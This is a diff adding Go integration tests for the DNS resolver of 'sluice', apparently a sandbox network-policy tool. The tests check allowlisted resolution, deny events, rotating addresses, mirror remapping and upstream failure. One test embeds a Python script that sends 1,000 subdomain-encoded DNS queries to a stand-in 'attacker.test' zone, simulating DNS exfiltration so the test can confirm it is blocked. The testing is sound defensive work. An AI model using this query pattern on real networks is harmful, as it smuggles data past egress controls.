@@ -1,0 +1,327 @@
+package main
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/sluice-dev/sluice/pkg/audit"
+	"github.com/sluice-dev/sluice/pkg/testutil"
+)
+
+// Issue 5: the sandbox's resolver, seen from real clients inside a sandbox.
+
+// TestDNSClientsResolveAllowedOnly: getent, dig, nslookup, Python and Node
+// resolve an allowed name and fail for a forbidden one, which never reaches
+// the upstream.
+func TestDNSClientsResolveAllowedOnly(t *testing.T) {
+	w := newWorld(t)
+	clients := []struct {
+		name string
+		cmd  func(host string) []string
+		// ok checks the output of a successful resolution of allowed.test.
+		ok func(out string) bool
+		// failed checks the output for the forbidden name (exit status
+		// checked separately where the client sets one).
+		failed       func(out string) bool
+		exitOnFailed bool
+	}{
+		{
+			name:         "getent",
+			cmd:          func(h string) []string { return []string{"getent", "hosts", h} },
+			ok:           func(out string) bool { return strings.Contains(out, "127.0.0.1") },
+			failed:       func(out string) bool { return !strings.Contains(out, "127.0.0.1") },
+			exitOnFailed: true,
+		},
+		{
+			name: "dig",
+			cmd:  func(h string) []string { return []string{"dig", "+tries=1", "+time=5", h, "A"} },
+			ok: func(out string) bool {
+				return strings.Contains(out, "status: NOERROR") && regexp.MustCompile(`allowed\.test\.\s+\d+\s+IN\s+A\s+127\.0\.0\.1`).MatchString(out)
+			},
+			failed: func(out string) bool { return strings.Contains(out, "status: NXDOMAIN") },
+		},
+		{
+			name:         "nslookup",
+			cmd:          func(h string) []string { return []string{"nslookup", "-timeout=5", h} },
+			ok:           func(out string) bool { return strings.Contains(out, "Address: 127.0.0.1") },
+			failed:       func(out string) bool { return strings.Contains(out, "NXDOMAIN") },
+			exitOnFailed: true,
+		},
+		{
+			name: "python",
+			cmd: func(h string) []string {
+				return []string{"python3", "-c", "import socket, sys; print(sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443)}))", h}
+			},
+			ok:           func(out string) bool { return strings.Contains(out, "'127.0.0.1'") },
+			failed:       func(out string) bool { return strings.Contains(out, "gaierror") },
+			exitOnFailed: true,
+		},
+		{
+			name: "node",
+			cmd: func(h string) []string {
+				return []string{"node", "-e", `require("dns").lookup(process.argv[1], (err, addr) => { if (err) { console.log("lookup error", err.code); process.exit(1) } console.log("address", addr) })`, h}
+			},
+			ok:           func(out string) bool { return strings.Contains(out, "address 127.0.0.1") },
+			failed:       func(out string) bool { return strings.Contains(out, "lookup error ENOTFOUND") },
+			exitOnFailed: true,
+		},
+	}
+	for _, c := range clients {
+		t.Run(c.name, func(t *testing.T) {
+			out, code := w.run(t, "", c.cmd("allowed.test")...)
+			if code != 0 || !c.ok(out) {
+				t.Errorf("%s allowed.test: exit %d, did not resolve:\n%s", c.name, code, out)
+			}
+			out, code = w.run(t, "", c.cmd("forbidden.test")...)
+			if (c.exitOnFailed && code == 0) || !c.failed(out) {
+				t.Errorf("%s forbidden.test: exit %d, want a resolution failure:\n%s", c.name, code, out)
+			}
+			var denied bool
+			for _, ev := range w.events(t) {
+				if ev.Kind == audit.KindDNS && ev.QName == "forbidden.test" && ev.Decision == audit.DecisionDeny {
+					denied = true
+				}
+			}
+			if !denied {
+				t.Errorf("%s: no dns deny event for forbidden.test", c.name)
+			}
+		})
+	}
+	if !w.dns.Received("allowed.test") {
+		t.Fatal("the upstream never saw allowed.test (the check below could not fail)")
+	}
+	if w.dns.Received("forbidden.test") {
+		t.Fatal("the forbidden name reached the upstream resolver")
+	}
+}
+
+// TestDNSExfiltrationNeverReachesUpstream: 1,000 subdomain-encoded queries
+// (several types) for an attacker's zone produce no upstream query.
+func TestDNSExfiltrationNeverReachesUpstream(t *testing.T) {
+	w := newWorld(t)
+	// Plain UDP DNS queries to the resolv.conf server (redirected by the
+	// kernel), built by hand so that every one is a distinct name and
+	// the types vary.
+	script := `
+import os, random, socket, struct, sys
+ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+types = [1, 16, 28, 255, 5, 15]  # A TXT AAAA ANY CNAME MX
+rcodes = {}
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(3)
+for i in range(1000):
+    name = os.urandom(20).hex() + ".attacker.test"
+    qid = random.randrange(65536)
+    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+    q += struct.pack(">HH", types[i % len(types)], 1)
+    s.sendto(q, (ns, 53))
+    try:
+        while True:
+            data, _ = s.recvfrom(4096)
+            if struct.unpack(">H", data[:2])[0] == qid:
+                break
+        rc = data[3] & 0xf
+    except socket.timeout:
+        rc = "timeout"
+    rcodes[rc] = rcodes.get(rc, 0) + 1
+print("rcodes", sorted(rcodes.items(), key=str))
+`
+	out, code := w.run(t, "", "python3", "-c", script)
+	if code != 0 {
+		t.Fatalf("exfiltration script: exit %d\n%s", code, out)
+	}
+	// Every query was answered NXDOMAIN (rcode 3).
+	if !strings.Contains(out, "rcodes [(3, 1000)]") {
+		t.Errorf("want 1000 NXDOMAIN answers, got:\n%s", out)
+	}
+	for _, q := range w.dns.Queries() {
+		if strings.HasSuffix(q, "attacker.test") {
+			t.Fatalf("an exfiltration query reached the upstream: %s", q)
+		}
+	}
+	n := 0
+	for _, ev := range w.events(t) {
+		if ev.Kind == audit.KindDNS && strings.HasSuffix(ev.QName, ".attacker.test") && ev.Decision == audit.DecisionDeny {
+			n++
+		}
+	}
+	if n != 1000 {
+		t.Errorf("want 1000 dns deny events for attacker.test, got %d", n)
+	}
+}
+
+// listenEach listens on the same TCP port on every address and answers
+// "pong <addr>" to each connection.
+func listenEach(t *testing.T, addrs []string) int {
+	t.Helper()
+	for attempt := 0; attempt < 20; attempt++ {
+		var lns []net.Listener
+		port := 0
+		ok := true
+		for _, a := range addrs {
+			ln, err := net.Listen("tcp4", net.JoinHostPort(a, strconv.Itoa(port)))
+			if err != nil {
+				ok = false
+				break
+			}
+			lns = append(lns, ln)
+			port = ln.Addr().(*net.TCPAddr).Port
+		}
+		if !ok {
+			for _, ln := range lns {
+				ln.Close()
+			}
+			continue
+		}
+		for _, ln := range lns {
+			t.Cleanup(func() { ln.Close() })
+			go func() {
+				for {
+					c, err := ln.Accept()
+					if err != nil {
+						return
+					}
+					fmt.Fprintf(c, "pong %s\n", c.LocalAddr().(*net.TCPAddr).IP)
+					c.Close()
+				}
+			}()
+		}
+		return port
+	}
+	t.Fatal("could not listen on one port on every address")
+	return 0
+}
+
+// TestDNSRotatingAddressesAllReachable: a name whose answer rotates among
+// 8 addresses: after the sandbox resolved each in turn, connections to
+// every one of them succeed (they accumulate in the allowlist within
+// TTL+grace; the newest answer does not evict the others).
+func TestDNSRotatingAddressesAllReachable(t *testing.T) {
+	w := newWorld(t)
+	dnsTTL, err := testutil.StartDNSTTL(nil, 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(dnsTTL.Close)
+	w.dns = dnsTTL
+	var addrs []string
+	for i := 10; i < 18; i++ {
+		addrs = append(addrs, fmt.Sprintf("127.0.0.%d", i))
+	}
+	port := listenEach(t, addrs)
+	d := startDaemon(t, w)
+	pol := writePolicy(t, w.dir, "rot.yaml", "version: 1\nrules:\n  - name: rot\n    hosts: [rot.test]\n")
+	cg, pid := sandboxProc(t, "")
+	if out, err := d.cli("attach", "--policy", pol, "--pid", fmt.Sprint(pid), "--name", "rot"); err != nil {
+		t.Fatalf("attach: %v\n%s", err, out)
+	}
+	probe := func(target string) string {
+		out, _ := inSandbox(t, cg, "", "env", "SLUICE_TEST_PROBE=tcp", os.Args[0], "-test.run=^$", target)
+		return strings.TrimSpace(out)
+	}
+	// Before any answer, the addresses are closed to the sandbox.
+	if out := probe(net.JoinHostPort(addrs[0], strconv.Itoa(port))); !strings.Contains(out, "error EPERM") {
+		t.Fatalf("connect to %s before it was resolved: %q, want error EPERM", addrs[0], out)
+	}
+	start := time.Now()
+	for i, a := range addrs {
+		w.dns.Set("rot.test", a)
+		if i > 0 {
+			time.Sleep(1200 * time.Millisecond) // the 1 s TTL of the previous answer runs out
+		}
+		out, err := inSandbox(t, cg, "", "getent", "ahostsv4", "rot.test")
+		if err != nil || !strings.Contains(out, a) {
+			t.Fatalf("query %d: want %s: %v\n%s", i, a, err, out)
+		}
+	}
+	for _, a := range addrs {
+		target := net.JoinHostPort(a, strconv.Itoa(port))
+		if out := probe(target); out != "ok pong "+a {
+			t.Errorf("connect to %s after it was answered: %q, want ok pong", target, out)
+		}
+	}
+	if el := time.Since(start); el > 60*time.Second {
+		t.Fatalf("took %v: longer than the minimum TTL, the test proves nothing", el)
+	}
+}
+
+// TestDNSRemapReachesMirror: a remapped registry name resolves to the
+// mirror's address, and curl to it through the proxy reaches the mirror
+// with the mirror's Host and the mirror's certificate checked.
+func TestDNSRemapReachesMirror(t *testing.T) {
+	w := newWorld(t)
+	orig := w.api
+	w.dns.Set("registry.test", "127.0.0.3") // the public answer, never used
+	w.dns.Set("mirror.test", "127.0.0.1")
+	mirror := useAPI(t, w, []string{"mirror.test"}, nil) // no certificate for registry.test
+	pol := writePolicy(t, w.dir, "remap.yaml", `version: 1
+rules:
+  - name: registry
+    hosts: [registry.test]
+    remap: mirror.test
+`)
+	out, code := w.run(t, pol, "getent", "ahostsv4", "registry.test")
+	if code != 0 || !strings.Contains(out, "127.0.0.1") || strings.Contains(out, "127.0.0.3") {
+		t.Fatalf("registry.test should resolve to the mirror's 127.0.0.1: exit %d\n%s", code, out)
+	}
+	url := fmt.Sprintf("https://registry.test:%d/pkg/left-pad", mirror.Port)
+	out, code = w.run(t, pol, "curl", "-sS", "--max-time", "10", url)
+	if code != 0 || !strings.Contains(out, "hello from upstream /pkg/left-pad") {
+		t.Fatalf("curl registry.test through the remap: exit %d\n%s", code, out)
+	}
+	reqs := mirror.Requests()
+	if len(reqs) != 1 {
+		t.Fatalf("mirror got %d requests, want 1", len(reqs))
+	}
+	if host, _, _ := strings.Cut(reqs[0].Host, ":"); host != "mirror.test" {
+		t.Fatalf("mirror saw Host %q, want mirror.test", reqs[0].Host)
+	}
+	// The mirror's certificate is checked: without its CA, 502.
+	w.api = orig
+	out, code = w.run(t, pol, "curl", "-sS", "--max-time", "10", "-w", "\n[status %{http_code}]\n", url)
+	if code != 0 || !strings.Contains(out, "[status 502]") {
+		t.Fatalf("mirror with an untrusted certificate: exit %d, want 502:\n%s", code, out)
+	}
+	if n := len(mirror.Requests()); n != 1 {
+		t.Fatalf("a request reached the mirror over unverified TLS")
+	}
+}
+
+var digQueryTime = regexp.MustCompile(`Query time: (\d+) msec`)
+
+// TestDNSUpstreamDownServfail: with the upstream down the sandbox gets
+// SERVFAIL within the resolver's timeout (2 s default), never an
+// unfiltered answer; once it is back, the name resolves again.
+func TestDNSUpstreamDownServfail(t *testing.T) {
+	w := newWorld(t)
+	d := startDaemon(t, w)
+	pol := writePolicy(t, w.dir, "p.yaml", "version: 1\nrules:\n  - name: p\n    hosts: [allowed.test]\n")
+	cg, pid := sandboxProc(t, "")
+	if out, err := d.cli("attach", "--policy", pol, "--pid", fmt.Sprint(pid), "--name", "down"); err != nil {
+		t.Fatalf("attach: %v\n%s", err, out)
+	}
+	w.dns.SetDown(true)
+	out, err := inSandbox(t, cg, "", "dig", "+tries=1", "+time=10", "allowed.test", "A")
+	if err != nil || !strings.Contains(out, "status: SERVFAIL") || strings.Contains(out, "ANSWER SECTION") {
+		t.Fatalf("upstream down: want SERVFAIL without answers: %v\n%s", err, out)
+	}
+	m := digQueryTime.FindStringSubmatch(out)
+	if m == nil {
+		t.Fatalf("no query time in dig's output:\n%s", out)
+	}
+	if ms, _ := strconv.Atoi(m[1]); ms > 3000 {
+		t.Fatalf("SERVFAIL after %d ms, want within the 2 s timeout (+1 s slack)", ms)
+	}
+	w.dns.SetDown(false)
+	out, err = inSandbox(t, cg, "", "dig", "+tries=1", "+time=10", "allowed.test", "A")
+	if err != nil || !strings.Contains(out, "status: NOERROR") || !strings.Contains(out, "127.0.0.1") {
+		t.Fatalf("upstream back: want the answer: %v\n%s", err, out)
+	}
+}
